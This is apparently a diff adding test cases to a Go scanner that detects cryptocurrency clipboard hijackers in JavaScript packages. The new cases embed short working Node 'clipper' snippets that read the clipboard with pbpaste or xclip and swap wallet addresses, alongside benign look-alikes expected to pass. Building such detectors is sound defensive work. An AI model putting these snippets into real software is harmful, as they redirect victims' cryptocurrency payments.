@@ -34,5 +34,13 @@ if (window.ethereum) { const req = window.ethereum.request; window.ethereum.requ
 		{"bundle_apart", map[string]string{"index.js": `export const WETH = "0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2"; const re = /0x[a-fA-F0-9]{40}/;` + strings.Repeat("var a = b + c;\n", 40000) +
 			`window.ethereum = provider;`}, finding.SeverityNone},
 		{"address_validator", map[string]string{"index.js": `const eth = /0x[a-fA-F0-9]{40}/; export const valid = s => eth.test(s)`}, finding.SeverityNone},
+		// a Node clipper writes through the system's clipboard tool
+		{"pbcopy_clipper", map[string]string{"index.js": `const { execSync } = require("child_process");
+setInterval(() => { const c = execSync("pbpaste").toString(); if (/^0x[a-fA-F0-9]{40}$/.test(c)) execSync("pbcopy", { input: "0x000000000000000000000000000000000000dEaD" }) }, 500)`}, finding.SeverityCritical},
+		{"xclip_clipper", map[string]string{"index.js": `const cp = require("child_process"); const eth = new RegExp("0x[a-fA-F0-9]{40}"), btc = new RegExp("(1|3|bc1)[a-zA-HJ-NP-Z0-9]{25,39}");
+setInterval(() => cp.execSync("xclip -selection clipboard", { input: swap(cp.execSync("xclip -selection clipboard -o").toString()) }), 500)`}, finding.SeverityCritical},
+		// a clipboard library with an address validator elsewhere: no swap
+		{"clipboard_library", map[string]string{"index.js": `const cp = require("child_process"); exports.write = t => cp.execSync("pbcopy", { input: t }); exports.read = () => cp.execSync("pbpaste").toString()`}, finding.SeverityNone},
+		{"xclip_reader", map[string]string{"index.js": `const cp = require("child_process"); const re = /0x[a-fA-F0-9]{40}/; const addr = "0x000000000000000000000000000000000000dEaD"; const t = cp.execSync("xclip -selection clipboard -o").toString(); console.log(re.test(t), addr)`}, finding.SeverityNone},
 	})
 }
